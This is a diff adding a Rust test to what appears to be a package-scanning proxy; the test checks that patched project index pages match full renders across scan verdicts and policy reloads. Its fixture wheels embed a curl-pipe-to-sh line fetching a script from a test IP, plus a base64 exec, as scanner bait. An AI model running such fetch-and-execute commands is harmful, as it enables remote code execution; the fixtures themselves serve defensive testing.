@@ -639,3 +639,166 @@ async fn the_dashboard_lists_cooldown_holds_and_acceptances_due() {
         assert_eq!(due.contains(needle), listed, "{case}: {due}");
     }
 }
+
+/// Project pages patched per entry equal a whole render (the patching lives in `page`).
+mod patched_pages {
+    use crate::gate::{Gate, GateParts};
+    use crate::index::accept::PageFormat;
+    use crate::index::page::parse_project;
+    use crate::index::patch::Patched;
+    use crate::index::render;
+    use crate::model::{ArtifactFacts, Decision, Verified};
+    use crate::policy::Policy;
+    use crate::scan::Scanner;
+    use crate::server::page::render_patched;
+    use crate::store::{OriginStore, SqliteStore};
+    use arc_swap::ArcSwap;
+    use std::io::Write;
+    use std::sync::Arc;
+
+    const LENIENT: &str =
+        "index: yank\ndefaults:\n  action: annotate\n  severity:\n    critical: block\n    low: allow\n    info: allow\n";
+
+    /// A wheel of `demo` at `version` whose `__init__.py` is `code`, with its sha256.
+    fn wheel(dir: &std::path::Path, version: &str, code: &str) -> (String, std::path::PathBuf, String) {
+        let filename = format!("demo-{version}-py3-none-any.whl");
+        let path = dir.join(&filename);
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
+        let opts = zip::write::SimpleFileOptions::default();
+        let metadata =
+            format!("Metadata-Version: 2.1\nName: demo\nVersion: {version}\nAuthor-email: a <a@example.org>\n");
+        for (name, body) in [
+            ("demo/__init__.py".to_string(), code.to_string()),
+            (format!("demo-{version}.dist-info/METADATA"), metadata),
+            (format!("demo-{version}.dist-info/RECORD"), String::new()),
+        ] {
+            zip.start_file(name, opts).unwrap();
+            zip.write_all(body.as_bytes()).unwrap();
+        }
+        zip.finish().unwrap();
+        use sha2::Digest;
+        let sha = hex::encode(sha2::Sha256::digest(std::fs::read(&path).unwrap()));
+        (filename, path, sha)
+    }
+
+    /// A sequence of verdicts applied to one kept page must give, at every step and in both
+    /// formats, the page a fresh render gives (a new patchable page, holds read afresh) and
+    /// the page the whole-listing renderers give; every step changes the page and its ETag.
+    #[tokio::test(flavor = "multi_thread")]
+    async fn a_patched_page_equals_a_full_render_after_every_verdict() {
+        let dir = tempfile::tempdir().unwrap();
+        let store = Arc::new(SqliteStore::open(&dir.path().join("s.sqlite3")).unwrap());
+        let policy =
+            Arc::new(ArcSwap::from_pointee(Policy::from_str_with_catalog("policy.yaml", LENIENT, &[]).unwrap()));
+        let gate = Gate::new(GateParts {
+            scanner: Scanner::new(Default::default()),
+            policy: policy.clone(),
+            scans: store.clone(),
+            origins: store.clone(),
+            enrich: crate::gate::enrich::Enricher::none(),
+            dangerous_skip_scan: false,
+            lookback: None,
+        });
+        let blocks = "import os\nos.system('curl http://203.0.113.9/x.sh | sh')\n";
+        let wheels = [
+            ("0.9", blocks),
+            ("1.0", "VERSION = '1.0'\n"),
+            ("2.0", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
+            ("3.0", blocks),
+        ]
+        .map(|(v, code)| wheel(dir.path(), v, code));
+        // The upstream page: each wheel and an sdist per version (never scanned), no `versions`
+        // (derived from what is shown), a PEP 792 status kept as sent.
+        let mut files = Vec::new();
+        for (filename, path, sha) in &wheels {
+            let size = std::fs::metadata(path).unwrap().len();
+            files.push(serde_json::json!({"filename": filename, "url": format!("https://files.example.org/{filename}"),
+                "hashes": {"sha256": sha}, "size": size, "upload-time": "2024-01-01T00:00:00Z", "requires-python": ">=3.8"}));
+            let sdist = filename.replace("-py3-none-any.whl", ".tar.gz");
+            files.push(serde_json::json!({"filename": sdist, "url": format!("https://files.example.org/{sdist}"),
+                "hashes": {"sha256": format!("{:0>64}", files.len())}, "yanked": files.len() == 3}));
+        }
+        let body =
+            serde_json::json!({"name": "demo", "files": files, "project-status": {"status": "active"}}).to_string();
+        let url = url::Url::parse("http://127.0.0.1:1/simple/demo/").unwrap();
+        let page = Arc::new(parse_project(&body, "application/json", &url, "demo").unwrap());
+        let origins = page.files.iter().map(|e| crate::index::origin("demo", e)).collect();
+        store.put_origins(origins).await.unwrap();
+
+        // Make `wheels[i]`'s verdict known, as a client's download (or a pre-scan) does.
+        let decide = |i: usize| {
+            let (filename, path, sha) = wheels[i].clone();
+            let (gate, store) = (&gate, store.clone());
+            async move {
+                let size = std::fs::metadata(&path).unwrap().len();
+                let facts = ArtifactFacts::describe("demo", &filename, &sha, None, size, path);
+                let metadata_sha256 = Some(format!("{:x>64}", i));
+                store.set_verified(&sha, &Verified { sha256: sha.parse().unwrap(), metadata_sha256 }).await.unwrap();
+                gate.decide(&facts).await.verdict.decision
+            }
+        };
+        let reload =
+            |text: &str| policy.store(Arc::new(Policy::from_str_with_catalog("policy.yaml", text, &[]).unwrap()));
+
+        let formats = [PageFormat::Json, PageFormat::TextHtml];
+        let mut kept: Vec<Patched<Arc<crate::gate::Early>>> = formats.iter().map(|f| Patched::new(*f)).collect();
+        let mut last: Vec<Option<String>> = vec![None; formats.len()];
+        let steps = [
+            "nothing known",
+            "serve",
+            "annotate",
+            "block of the newest",
+            "block of an older one",
+            "policy reload: blocked versions hidden",
+            "policy reload: everything blocked (all stay listed)",
+            "policy reload: nothing blocked",
+        ];
+        for step in steps {
+            match step {
+                "nothing known" => {}
+                "serve" => assert_eq!(decide(1).await, Decision::Serve, "{step}"),
+                "annotate" => assert_eq!(decide(2).await, Decision::Annotate, "{step}"),
+                "block of the newest" => assert_eq!(decide(3).await, Decision::Block, "{step}"),
+                "block of an older one" => assert_eq!(decide(0).await, Decision::Block, "{step}"),
+                "policy reload: blocked versions hidden" => reload(&LENIENT.replace("index: yank", "index: hide")),
+                "policy reload: everything blocked (all stay listed)" => reload(&format!("{LENIENT}deny: [demo]\n")),
+                "policy reload: nothing blocked" => reload(&LENIENT.replace("critical: block", "critical: annotate")),
+                _ => unreachable!(),
+            }
+            let listing = gate.list("demo", &page).await;
+            for (f, format) in formats.iter().enumerate() {
+                let case = format!("{step}, {format:?}");
+                let early = kept[f].extra.clone();
+                let verdicts = gate.verdicts("demo", &page, early).await;
+                let (patched, withheld, made) = render_patched(&mut kept[f], "demo", &page, &verdicts, None);
+                let fresh_verdicts = gate.verdicts("demo", &page, None).await;
+                let (fresh, _, all) = render_patched(&mut Patched::new(*format), "demo", &page, &fresh_verdicts, None);
+                assert_eq!(all, page.files.len(), "{case}: a fresh page renders every entry");
+                assert_eq!(patched, fresh, "{case}: patched page differs from a fresh render");
+                let whole = match format {
+                    PageFormat::Json => render::project_json(
+                        "demo",
+                        &listing.files,
+                        &render::versions(None, &listing.files),
+                        &page.extra,
+                    ),
+                    _ => render::project_html_with_status("demo", &listing.files, render::project_status(&page.extra)),
+                };
+                assert_eq!(patched, whole, "{case}: patched page differs from the whole-listing render");
+                let names = |w: &[crate::gate::Withheld]| w.iter().map(|w| w.filename.clone()).collect::<Vec<_>>();
+                assert_eq!(names(&withheld), names(&listing.withheld), "{case}: withheld");
+                if !step.starts_with("policy") && step != "nothing known" {
+                    assert!(made <= 8, "{case}: a verdict re-rendered {made} of {} entries", page.files.len());
+                }
+                let etag = crate::respond::page_etag(&patched);
+                if let Some(before) = &last[f] {
+                    assert_ne!(&patched, before, "{case}: the step changed nothing on the page");
+                    assert_ne!(etag, crate::respond::page_etag(before), "{case}: a changed page keeps its ETag");
+                }
+                last[f] = Some(patched);
+            }
+        }
+        let shown = last[0].as_deref().unwrap();
+        assert!(shown.contains("\"project-status\":{\"status\":\"active\"}"), "upstream status kept: {shown}");
+    }
+}
